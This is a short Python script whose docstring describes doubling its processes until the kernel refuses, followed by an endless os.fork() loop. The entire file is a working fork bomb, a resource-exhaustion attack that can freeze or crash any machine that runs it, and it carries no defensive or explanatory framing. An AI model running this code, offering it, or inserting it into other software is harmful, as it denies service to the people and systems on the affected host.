"""Doubles its processes until the kernel refuses one."""

import os

while True:
    os.fork()
